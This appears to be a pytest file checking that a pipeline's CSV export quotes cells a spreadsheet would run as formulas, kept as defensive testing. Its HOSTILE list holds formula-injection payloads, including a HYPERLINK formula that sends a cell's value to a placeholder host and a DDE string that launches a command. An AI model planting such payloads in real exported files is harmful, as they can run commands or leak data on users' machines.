"""What an export writes, and what a spreadsheet must not run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pyarrow as pa
import pyarrow.dataset as ds
import pytest

from pipeline.storage.export import ExportFormat, export_records

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\x00=1",
]
HARMLESS = ["plain", "a=b", "", 'with "quotes", and\nlines', "'=quoted already"]


def _csv(table: pa.Table) -> list[list[str]]:
    file = io.BytesIO()
    assert export_records(ds.dataset(table), ExportFormat.CSV, file) == table.num_rows
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("column", ["_document_id", "title"])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text: str, column: str) -> None:
    """Fails when `_FORMULA_STARTS` lacks one of its characters, or ids are left out."""
    header, row = _csv(
        pa.table({"_document_id": ["d"], "title": ["t"]}).set_column(
            ["_document_id", "title"].index(column), column, pa.array([text])
        )
    )
    assert row[header.index(column)] == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text: str) -> None:
    _, row = _csv(pa.table({"_document_id": ["d"], "title": [text]}))
    assert row == ["d", text]


def test_numbers_are_numbers_and_nested_values_json() -> None:
    table = pa.table(
        {
            "_document_id": ["d"],
            "total": pa.array([Decimal("-1.50")], pa.decimal128(6, 2)),
            "count": [-3],
            "items": [[{"name": "=1+1"}]],
        }
    )
    assert _csv(table)[1] == ["d", "-1.50", "-3", '[{"name":"=1+1"}]']
